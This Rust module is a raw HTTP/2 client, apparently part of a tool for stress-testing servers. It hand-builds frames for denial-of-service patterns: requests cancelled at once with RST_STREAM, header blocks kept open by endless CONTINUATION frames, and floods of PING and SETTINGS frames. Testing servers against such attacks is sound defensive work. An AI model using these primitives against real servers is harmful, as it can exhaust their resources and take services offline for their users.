//! As much of HTTP/2 as is needed to misuse it: frames are assembled by hand.

use std::net::SocketAddr;

use anyhow::{Context as _, Result, bail};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;

/// The bytes with which every HTTP/2 client begins (RFC 9113, section 3.4).
pub(crate) const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

/// Flag: the sender sends no more frames on this stream.
const END_STREAM: u8 = 1;
/// Flag: the header block is complete.
const END_HEADERS: u8 = 4;
/// Identifier of the setting for the window of new streams.
const INITIAL_WINDOW_SIZE: u16 = 4;
/// Error code of a stream that its client no longer needs.
const CANCEL: u32 = 8;
const FRAME_HEAD_BYTES: usize = 9;
const FRAME_BYTES_MAX: usize = 1 << 24;

/// A client that sends exactly the frames of an attack, valid or not.
pub(crate) struct Connection {
    stream: TcpStream,
    next_stream: u32,
    received: Vec<u8>,
}

/// A frame from the server.
pub(crate) enum ReceivedFrame {
    GoAway,
    Reset,
    Data,
    Other,
}

impl Connection {
    /// Connects and sends the preface, with this window for each stream.
    pub(crate) async fn open(address: SocketAddr, window: u32) -> Result<Connection> {
        let mut stream = TcpStream::connect(address).await.context("connecting")?;
        stream.set_nodelay(true)?;
        let mut setting = INITIAL_WINDOW_SIZE.to_be_bytes().to_vec();
        setting.extend_from_slice(&window.to_be_bytes());
        let mut message = PREFACE.to_vec();
        message.extend_from_slice(&frame(SETTINGS, 0, 0, &setting));
        // Acknowledges the server's settings in advance; the flag 1 is ACK.
        message.extend_from_slice(&frame(SETTINGS, 1, 0, &[]));
        stream.write_all(&message).await?;
        Ok(Connection {
            stream,
            next_stream: 1,
            received: Vec::new(),
        })
    }

    /// Sends a request on a new stream and returns the number of the stream.
    pub(crate) async fn request(
        &mut self,
        headers: &[(&str, &str)],
        body: Option<&[u8]>,
    ) -> Result<u32> {
        let stream = self.next_stream;
        // Streams that a client opens have odd numbers.
        self.next_stream += 2;
        let flags = END_HEADERS | if body.is_none() { END_STREAM } else { 0 };
        let mut message = frame(HEADERS, flags, stream, &block(headers));
        if let Some(body) = body {
            message.extend_from_slice(&frame(DATA, END_STREAM, stream, body));
        }
        self.stream.write_all(&message).await?;
        Ok(stream)
    }

    /// Cancels a stream.
    pub(crate) async fn reset(&mut self, stream: u32) -> Result<()> {
        let reset = frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
        Ok(self.stream.write_all(&reset).await?)
    }

    /// Sends a `WINDOW_UPDATE` frame: the server may send `bytes` more on `stream`, or, for stream
    /// 0, on the whole connection.
    pub(crate) async fn window_update(&mut self, stream: u32, bytes: u32) -> Result<()> {
        let update = frame(WINDOW_UPDATE, 0, stream, &bytes.to_be_bytes());
        Ok(self.stream.write_all(&update).await?)
    }

    /// Sends a PING frame, which the server must acknowledge.
    pub(crate) async fn ping(&mut self) -> Result<()> {
        Ok(self.stream.write_all(&frame(PING, 0, 0, &[0; 8])).await?)
    }

    /// Sends an empty SETTINGS frame, which the server must acknowledge.
    pub(crate) async fn settings(&mut self) -> Result<()> {
        Ok(self.stream.write_all(&frame(SETTINGS, 0, 0, &[])).await?)
    }

    /// Begins a header block that never ends.
    pub(crate) async fn begin_headers(&mut self) -> Result<u32> {
        let stream = self.next_stream;
        self.next_stream += 2;
        let start = block(&[(":method", "GET"), (":path", "/"), (":scheme", "http")]);
        // Without `END_HEADERS`, the server must wait for CONTINUATION frames.
        let head = frame(HEADERS, 0, stream, &start);
        self.stream.write_all(&head).await?;
        Ok(stream)
    }

    /// Adds one kibibyte to the header block of a stream.
    pub(crate) async fn continue_headers(&mut self, stream: u32) -> Result<()> {
        let value = "x".repeat(1024);
        let more = block(&[("x-more", &value)]);
        let more = frame(CONTINUATION, 0, stream, &more);
        Ok(self.stream.write_all(&more).await?)
    }

    /// Waits for one frame of the server.
    pub(crate) async fn receive(&mut self) -> Result<ReceivedFrame> {
        loop {
            if let Some(length) = frame_length(&self.received) {
                if length > FRAME_BYTES_MAX {
                    bail!("a frame is too long");
                }
                // The type of a frame is its fourth byte, after three bytes of length.
                if self.received.len() >= length {
                    let kind = self.received[3];
                    self.received.drain(..length);
                    return Ok(match kind {
                        GOAWAY => ReceivedFrame::GoAway,
                        RST_STREAM => ReceivedFrame::Reset,
                        DATA => ReceivedFrame::Data,
                        _ => ReceivedFrame::Other,
                    });
                }
            }
            if self.stream.read_buf(&mut self.received).await? == 0 {
                bail!("the server closed the connection");
            }
        }
    }
}

/// The length of the first frame with its head, once the head has arrived.
fn frame_length(received: &[u8]) -> Option<usize> {
    let length = received.get(..FRAME_HEAD_BYTES)?;
    let payload = u32::from_be_bytes([0, length[0], length[1], length[2]]);
    Some(FRAME_HEAD_BYTES + payload as usize)
}

/// Builds one frame from its type, flags, stream and payload.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("payloads are small");
    // The length field has three bytes.
    let mut bytes = length.to_be_bytes()[1..].to_vec();
    bytes.push(kind);
    bytes.push(flags);
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
    bytes
}

/// Headers as literals without indexing and without Huffman coding.
fn block(headers: &[(&str, &str)]) -> Vec<u8> {
    let mut bytes = Vec::new();
    for (name, value) in headers {
        // 0: a literal without indexing, whose name is a literal too (RFC 7541, section 6.2.2).
        bytes.push(0);
        text(&mut bytes, name);
        text(&mut bytes, value);
    }
    bytes
}

/// Appends a string literal with its length as an integer of a 7-bit prefix (RFC 7541).
fn text(bytes: &mut Vec<u8>, text: &str) {
    const PREFIX_MAX: usize = 127;
    let length = text.len();
    if length < PREFIX_MAX {
        bytes.push(u8::try_from(length).expect("less than 127"));
    } else {
        bytes.push(127);
        let mut rest = length - PREFIX_MAX;
        while rest >= 128 {
            bytes.push(u8::try_from(rest % 128 + 128).expect("less than 256"));
            rest /= 128;
        }
        bytes.push(u8::try_from(rest).expect("less than 128"));
    }
    bytes.extend_from_slice(text.as_bytes());
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lengths_beyond_the_prefix_go_on_in_sevens_of_bits() {
        let mut bytes = Vec::new();
        text(&mut bytes, &"x".repeat(1337));
        assert_eq!(bytes[..3], [127, 0b1011_1010, 9]);
        assert_eq!(bytes.len(), 3 + 1337);
    }
}
